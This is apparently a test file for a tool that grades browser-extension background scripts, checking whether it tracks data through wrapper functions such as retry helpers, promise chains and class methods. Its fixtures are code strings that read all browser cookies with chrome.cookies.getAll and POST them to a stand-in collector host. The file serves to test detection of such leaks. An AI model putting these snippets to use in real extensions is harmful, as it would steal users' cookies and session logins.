import { describe, expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/* `retry(() => read())`: what a function gives that was handed over goes to who handed it over, and to no other. */

const JAR = '() => chrome.cookies.getAll({})';
const OTHER = "() => chrome.alarms.get('x')";

describe.each([
  ['calls it', 'const safe = (run) => { try { return run(); } catch { return null; } };'],
  [
    'calls it again and again',
    'async function safe(run, times = 3) { for (let n = 0; n < times; n++) { try { return await run(n); } catch {} } }',
  ],
  [
    'hands it on',
    "async function timed(name, run) { const answer = await run(); console.debug(name); return answer; } const safe = (run) => timed('x', run);",
  ],
  [
    'is a method',
    'class Queue { async add(run) { this.count = (this.count || 0) + 1; return await run(); } } const queue = new Queue(); const safe = (run) => queue.add(run);',
  ],
  ['hands it to a promise', 'const safe = (run) => Promise.resolve().then(run);'],
  [
    'waits first',
    'let chain = Promise.resolve(); const safe = (run) => { const own = chain.then(() => run()); chain = own.catch(() => {}); return own; };',
  ],
  ['gives more beside', 'const safe = async (run) => { const data = await run(); return { ok: true, data }; };'],
])('a function that %s', (_, safe) => {
  const background = (first: string, sent: string): string =>
    `${safe} (async () => { const one = await safe(${first}); console.log(one.length); })(); (async () => { const one = await safe(${sent}); fetch('https://collect.example/', { method: 'POST', body: JSON.stringify(one) }); })();`;

  it('gives it to who handed it over', async () => {
    expect(await graded({ background: background(OTHER, JAR) })).toBe('F');
  });

  it('and not to another', async () => {
    expect(await graded({ background: background(JAR, OTHER) })).toMatch(/^A/);
  });
});

it('where it may be another function, everybody gets it', async () => {
  const background =
    "const safe = (run) => run(); let way; function set(read) { way = read; } set(() => chrome.cookies.getAll({})); (async () => { show(await safe(() => 1)); const one = await safe(way); fetch('https://collect.example/', { method: 'POST', body: JSON.stringify(one) }); })();";
  expect(await graded({ background })).toBe('F');
});
